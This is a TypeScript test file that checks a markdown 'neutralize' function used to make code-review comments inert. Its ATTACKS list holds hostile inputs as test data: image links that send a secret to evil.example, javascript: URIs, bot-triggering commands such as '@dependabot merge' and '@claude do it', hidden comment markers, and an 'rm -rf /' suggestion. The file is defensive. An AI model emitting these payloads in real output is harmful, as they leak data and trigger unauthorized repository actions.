import * as fc from "fast-check";
import { marked } from "marked";
import { describe, expect, it } from "vitest";

import { inlineText, neutralize, tableCell } from "../../src/render/neutralize.ts";

function html(markdown: string): string {
  return marked.parse(markdown, { gfm: true, async: false });
}

/** What GitHub's filters for mentions and references see: the text between tags, outside of code. */
function proseOf(markdown: string): string {
  return html(markdown)
    .replaceAll(/<pre>[\s\S]*?<\/pre>|<code>[\s\S]*?<\/code>/g, "⌷")
    .replaceAll(/<\/?[a-z][^>]*>/g, "⌷")
    .replaceAll("&lt;", "<")
    .replaceAll("&gt;", ">")
    .replaceAll("&quot;", '"')
    .replaceAll("&#39;", "'")
    .replaceAll("&amp;", "&");
}

const ALLOWED_TAGS = new Set(["p", "ul", "ol", "li", "strong", "em", "code", "pre", "br", "input"]);

function expectInert(markdown: string): void {
  const page = html(markdown);
  expect(page).not.toMatch(/<[^>]*\s(?:src|href|title)=/i);
  const tags = [...page.matchAll(/<\/?([a-z0-9]+)/gi)].map((match) => match[1]?.toLowerCase());
  expect(tags.filter((tag) => !ALLOWED_TAGS.has(tag ?? ""))).toEqual([]);
  const prose = proseOf(markdown);
  expect(prose).not.toMatch(/@[A-Za-z0-9_-]/);
  expect(prose).not.toMatch(/#\d+(?!\w)|\bGH-\d+(?!\w)/i);
  expect(prose).not.toMatch(/:\/\/[\p{L}\p{N}]|\bwww\.[\p{L}\p{N}]/u);
  expect(markdown).not.toMatch(/<!--\s*parallel-review/i);
  expect(markdown).not.toMatch(/@(?:dependabot|claude|coderabbitai|mergifyio)/i);
  expect(markdown).not.toMatch(/^\s*\/(?:parallel-review|ok|lgtm|retest)/im);
}

const ATTACKS = [
  "![x](https://evil.example/?q=secret)",
  '<img src="https://evil.example/a.png">',
  "<picture><source srcset='//evil.example/x'></picture>",
  "[click](https://evil.example)",
  "[click][a]\n\n[a]: http://evil.example 'title'",
  "<https://evil.example/path>",
  "https://evil.example/path?q=1 and http://evil.example and ftp://evil.example/x",
  "www.evil.example/x and //evil.example/x",
  "1https://evil.example and xhttps://evil.example",
  "data:text/html;base64,AAAA and javascript:alert(1) and mailto:x@evil.example",
  "mail me: someone@evil.example",
  "@everyone fixes #1\n/parallel-review\n@dependabot merge",
  "ping @org/team, see owner/repo#12, GH-12 and owner/repo@0123456",
  "/ok to test",
  "  /lgtm",
  "- /retest please",
  "`@dependabot merge` and `@claude do it`",
  "```\n/ok to test\n@coderabbitai pause\n<!-- parallel-review:v1 {} -->\n```",
  "<!-- parallel-review:v1 {} -->",
  "<!-<!-- x -->- parallel-review -->",
  "&#60;!-- parallel-review --&#62; &#64;everyone &lt;img&gt;",
  "\\@everyone \\#1 h\\ttps://evil.example https\\://evil.example",
  "@a`code` `x``@b` ``y`@c",
  "`@a`b`@c` \\`@d\\` `` @e ` @f",
  "````\n```\n@a\n```\n````\n@b",
  "~~~\n```\n@a\n~~~\n@b",
  "```\nunclosed @a",
  "- ```js\n  @a\n  ```\n@b",
  "```suggestion\nrm -rf /\n```",
  "```mermaid\ngraph TD; click A href 'https://evil.example'\n```",
  "Title\n===\n\nOther\n---\n\n# Heading\n\n***\n\n> quote\n> [!WARNING]",
  "| a | b |\n|---|---|\n| ![x](//evil.example) | @c |",
  "[^1]\n\n[^1]: note with <b>html</b>",
  "$$\\href{https://evil.example}{x}$$ and $`a`$",
  "<details><summary>hi</summary>hidden</details><span hidden>x</span><?php ?><![CDATA[x]]>",
  "a\u200Bb \u202Ec \u{E0069}",
  "\tindented code @a\n\n    more @b",
  "**bold @user** and *it* and __init__ and ~~no~~",
  "\\",
  "`",
  "**",
  "1. one\n2. two\n   - three\n      - four\n         - five",
  "- # heading\n- > quote\n- - nested\n- 1. number\n- [ ] task",
  "foo\n-\nbar\n=\nbaz",
  "https://evil.example`x`@a",
  "a|b `c|d`",
];

describe("neutralize", () => {
  it.each(ATTACKS)("makes %j inert, and stays as it is the second time", (attack) => {
    const safe = neutralize(attack);

    expectInert(safe);
    expect(neutralize(safe)).toBe(safe);
  });

  it("is inert and idempotent on any mixture", () => {
    const piece = fc.oneof(
      fc.constantFrom(...ATTACKS),
      fc.constantFrom(
        "`",
        "``",
        "```",
        "~~~",
        "\n",
        "\n\n",
        " ",
        "\\",
        "*",
        "**",
        "_",
        "@a",
        "#1",
        "<",
        ">",
        "!",
        "[",
        "](",
        ")",
        "- ",
        "1. ",
        "    ",
        "x",
        "://e.x",
        "www.",
        "|",
        "&",
        "/lgtm",
        "(at)claude",
        "$",
        "\r",
        "\t",
        "=",
        "-",
        "#",
        "+",
      ),
      fc.string(),
    );

    fc.assert(
      fc.property(fc.array(piece, { maxLength: 12 }), (pieces) => {
        const safe = neutralize(pieces.join(""));

        expectInert(safe);
        expect(neutralize(safe)).toBe(safe);
      }),
      { numRuns: 2_000 },
    );
  });

  it("keeps one line on one line, and inert, whatever is in it", () => {
    fc.assert(
      fc.property(
        fc.array(fc.oneof(fc.constantFrom(...ATTACKS, "`", "|", "\\", "**"), fc.string()), { maxLength: 6 }),
        (pieces) => {
          const safe = inlineText(pieces.join(" "));

          expect(safe).not.toContain("\n");
          expectInert(safe);
          expectInert(`- **${safe}** and more`);
          expect(inlineText(safe, 10_000)).toBe(safe);
          const table = html(`| a | b |\n|---|---|\n| ${tableCell(pieces.join(" "))} | end |`);
          expect(table.match(/<td>/g)).toHaveLength(2);
          expect(table).toContain("<td>end</td>");
        },
      ),
    );
  });

  it("leaves ordinary review prose readable", () => {
    const prose = [
      "The loop awaits `db.customer(id)` once for **every** order.",
      "",
      "- first, `orders` is unbounded",
      "- then each turn takes 3 ms",
      "",
      "```ts",
      "for (const order of orders) await load(order);",
      "```",
    ].join("\n");

    expect(neutralize(prose)).toBe(prose);
  });

  it("shows what became of links and mentions", () => {
    expect(neutralize("See https://docs.example.com/a/b?c=d, ask @octocat about #12.")).toBe(
      "See `docs[.]example[.]com/…` ask `@octocat` about `#12`.",
    );
  });
});
